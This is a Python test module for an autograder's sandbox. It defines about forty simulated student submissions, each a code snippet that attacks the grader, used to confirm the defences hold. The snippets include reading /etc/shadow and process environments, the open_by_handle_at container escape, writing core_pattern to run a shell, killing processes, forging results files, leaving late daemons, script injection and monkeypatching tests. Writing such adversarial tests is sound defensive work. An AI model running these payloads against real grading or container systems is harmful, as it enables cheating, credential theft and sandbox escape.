"""A hostile class: students whose first answer cell attacks the grader, each one way, on the blank release.

Written apart from the defences' own tests (tests/test_sandbox.py, tests/test_gradescope.py, tests/test_hub.py): what
a student who has read the course's code would try. Every one hands in the blank release with its attack atop the
first answer cell, so none has earned a point: a point it gets, a secret that reaches what it is given back, a course
file it changes, a classmate whose grade moves, or a process it leaves running, is an attack that got through.
`scripts/hostile_class.py` (make hostile-class) grades them beside honest students on every grading path.
"""

from __future__ import annotations

from dataclasses import dataclass

# Where the attacks look: the course's files, found from the machinery's own location (the probe's jail binds it)
# and from the usual places; COURSE_ROOT is filled in by `attack_code` with the repository's path.
PRELUDE = """
import ctypes, errno, glob, json, os, pathlib, signal, socket, subprocess, sys, time
ROOT = pathlib.Path(COURSE_ROOT)
def _try(action):
    try:
        return action()
    except BaseException as error:
        return f"{type(error).__name__}"
def _show(*values):  # what an attacker prints, hoping it reaches their feedback
    print("LEAK", *values)
def _find(pattern):  # where courses are kept: the course's own folder's neighbours, /tmp, homes, Gradescope's
    found = []
    for top in {str(ROOT.parent), "/tmp", "/home", "/root", "/autograder"}:
        found += glob.glob(f"{top}/*/{pattern}") + glob.glob(f"{top}/*/*/{pattern}") + glob.glob(f"{top}/{pattern}")
    return found or ["/nonexistent"]
"""


@dataclass(frozen=True)
class Attack:
    student: str
    what: str
    code: str


def _reads(name: str, what: str, path: str) -> Attack:
    return Attack(name, what, f"_show(_try(lambda: open({path}).read()[:400]))\n")


ATTACKS = (
    _reads("read_probes", "reads the hidden probes", "ROOT / 'tests/fixture/assignments/tiny/probes.py'"),
    _reads("read_checks", "reads the hidden checks", "ROOT / 'tests/fixture/assignments/tiny/checks.py'"),
    _reads("read_reference", "reads the reference data", "ROOT / 'tests/fixture/assignments/tiny/reference.npz', 'rb'"),
    _reads("read_course_probes", "reads the course's real probes", "ROOT / 'assignments/hand_designed_attention/probes.py'"),
    _reads("read_solution", "reads the solution in source/", "_find('source/tiny/tiny.ipynb')[0]"),
    _reads("read_shadow", "reads /etc/shadow", "'/etc/shadow'"),
    _reads("read_gradebook", "reads the gradebook", "_find('gradebook.db')[0], 'rb'"),
    _reads("read_records", "reads the records", "_find('build/results/tiny/*.json')[0]"),
    _reads("read_classmate", "reads a classmate's notebook", "_find('submitted/perfect/tiny/tiny.ipynb')[0]"),
    _reads("read_git", "reads the repository's history", "ROOT / '.git/config'"),
    Attack("proc_roots", "walks /proc/*/root and /proc/*/cwd for the course",
           "_show([_try(lambda p=p: os.listdir(p)) for p in glob.glob('/proc/*/root/') + glob.glob('/proc/*/cwd/')])\n"),
    Attack("proc_environ", "reads every process's environment", "_show([_try(lambda p=p: open(p, 'rb').read()[:200]) "
           "for p in glob.glob('/proc/*/environ')], dict(os.environ))\n"),
    Attack("shocker", "opens the host's root through open_by_handle_at",
           "libc = ctypes.CDLL(None, use_errno=True)\nfh = ctypes.create_string_buffer(8 + 8)\n"
           "ctypes.memmove(fh, (8).to_bytes(4, 'little') + (1).to_bytes(4, 'little') + (2).to_bytes(8, 'little'), 16)\n"
           "_show(libc.open_by_handle_at(os.open('/', os.O_RDONLY), fh, 0), ctypes.get_errno())\n"),
    Attack("write_judge", "rewrites the judge to pass everything",
           "_show(_try(lambda: open(ROOT / 'course/grading/judge.py', 'a').write('\\nFORGED = 1\\n')))\n"),
    Attack("write_checks", "rewrites the hidden checks",
           "_show(_try(lambda: open(ROOT / 'tests/fixture/assignments/tiny/checks.py', 'a').write('\\nFORGED = 1\\n')))\n"),
    Attack("write_own_record", "writes its own record with full marks",
           "for p in _find('build/results/tiny/*.json'):\n    _show(_try(lambda p=p: open(p, 'w').write('{}')))\n"),
    Attack("write_gradebook", "writes the gradebook", "for p in _find('gradebook.db'):\n"
           "    _show(_try(lambda p=p: open(p, 'ab').write(b'x')))\n"),
    Attack("write_classmate", "overwrites a classmate's submission", "for p in _find('submitted/perfect/tiny/"
           "tiny.ipynb'):\n    _show(_try(lambda p=p: open(p, 'w').write('{}')))\n"),
    Attack("write_results", "writes Gradescope's results.json", "_show(_try(lambda: open('/autograder/results/"
           "results.json', 'w').write(json.dumps({'score': 99}))))\n"),
    Attack("replace_results", "replaces Gradescope's results folder", "_show(_try(lambda: os.rename('/autograder/results', "
           "'/autograder/old')))\n"),
    Attack("late_daemon", "leaves a daemon that writes results later", "subprocess.Popen([sys.executable, '-c', "
           "\"import time, json; time.sleep(6); [open(p, 'w').write(json.dumps({'score': 99})) for p in "
           "('/autograder/results/results.json',)]\"], start_new_session=True)\n"),
    Attack("double_fork", "double-forks a process that outlives grading", "subprocess.Popen(['/bin/sh', '-c', "
           "'(sleep 30; touch /tmp/hostile_alive) & exit 0'], start_new_session=True)\n"),
    Attack("kill_all", "kills every process it can", "_show(_try(lambda: os.kill(-1, signal.SIGKILL)))\n"),
    Attack("kill_parents", "kills the grading processes above it", "pid = os.getpid()\nwhile pid > 1:\n"
           "    pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
           "    _show(_try(lambda pid=pid: os.kill(pid, signal.SIGKILL)))\n"),
    Attack("core_pattern", "writes the kernel's core pattern", "_show(_try(lambda: open('/proc/sys/kernel/core_pattern', "
           "'w').write('|/bin/sh -c id')))\n"),
    Attack("namespaces", "makes a user namespace to become root in it", "_show(subprocess.run(['unshare', '-Ur', 'id'], "
           "capture_output=True).stderr)\n"),
    Attack("mount", "mounts a filesystem", "libc = ctypes.CDLL(None, use_errno=True)\n"
           "_show(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), ctypes.get_errno())\n"),
    Attack("ptrace", "attaches to its parent with ptrace", "libc = ctypes.CDLL(None, use_errno=True)\n"
           "_show(libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())\n"),
    Attack("bpf", "loads a BPF program", "libc = ctypes.CDLL(None, use_errno=True)\n"
           "_show(libc.syscall(321, 5, 0, 0), ctypes.get_errno())\n"),
    Attack("setuid_programs", "runs setuid programs (su, mount, passwd)", "_show([subprocess.run([p, '--help'], "
           "capture_output=True).returncode for p in ('/bin/su', '/bin/mount', '/usr/bin/passwd') if os.path.exists(p)], "
           "os.getuid())\n"),
    Attack("chown_root_file", "takes a root file with chown", "_show(_try(lambda: os.chown(ROOT / 'course/grading/"
           "judge.py', os.getuid(), os.getgid())))\n"),
    Attack("big_file", "fills the disk with one large file", "_show(_try(lambda: open('big.bin', 'wb').write(b'0' * "
           "(1100 * 2**20))))\n"),
    Attack("many_files", "fills the folder with files", "_show(_try(lambda: [open(f'f{i}', 'w').close() for i in "
           "range(20000)]))\n"),
    Attack("network", "reaches the network and this machine's services", "_show([_try(lambda a=a: socket.create_connection"
           "(a, timeout=1)) for a in (('127.0.0.1', 8000), ('127.0.0.1', 8786), ('1.1.1.1', 80))])\n"),
    Attack("unix_sockets", "connects to every unix socket it can find", "_show([_try(lambda p=p: socket.socket("
           "socket.AF_UNIX).connect(p)) for p in glob.glob('/tmp/*/*') + glob.glob('/tmp/*') + glob.glob('/run/**', "
           "recursive=True) if os.path.exists(p) and not os.path.isdir(p)][:20])\n"),
    Attack("link_notebook", "replaces its notebook with a link to the solution",
           "_try(lambda: os.remove('tiny.ipynb'))\n"
           "_show(_try(lambda: os.symlink(_find('source/tiny/tiny.ipynb')[0], 'tiny.ipynb')))\n"),
    Attack("link_progress", "links the probe's files to the solution", "for name in ('progress.txt', 'probe_report.json', "
           "'outputs.npz'):\n    _try(lambda name=name: os.remove(name))\n    _try(lambda name=name: os.symlink("
           "'/etc/shadow', name))\n"),
    Attack("frame_thief", "reads the hidden probes from the probe's memory and raises them", "_f, _got = "
           "sys._getframe(), ''\nwhile _f is not None:\n    for _v in list(_f.f_locals.values()):\n"
           "        if isinstance(_v, bytes) and b'PROBES' in _v:\n            _got = _v.decode()\n    _f = _f.f_back\n"
           "raise ValueError(_got[:300])\n"),
    Attack("script_output", "displays script and event handlers for the feedback page", "from IPython.display import "
           "HTML, Javascript, display\ndisplay(HTML('<script>document.title=\"owned\"</script><img src=x onerror="
           "\"document.title=1\">'))\ndisplay(Javascript('document.title=2'))\n"),
    Attack("patch_numpy", "patches numpy so the visible tests pass", "import numpy as np\n"
           "np.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"),
    Attack("fake_probe_outputs", "writes the probe's output files itself, then exits", "import numpy as np\n"
           "open('probe_report.json', 'w').write(json.dumps({'cell_errors': {}, 'probe_errors': {}}))\n"
           "np.savez('outputs.npz', **{'cube_values/out': np.arange(3)})\nos._exit(0)\n"),
)


def attack_code(attack: Attack, course_root: str) -> str:
    """The code atop the student's first answer cell."""
    return PRELUDE.replace("COURSE_ROOT", repr(course_root)) + attack.code
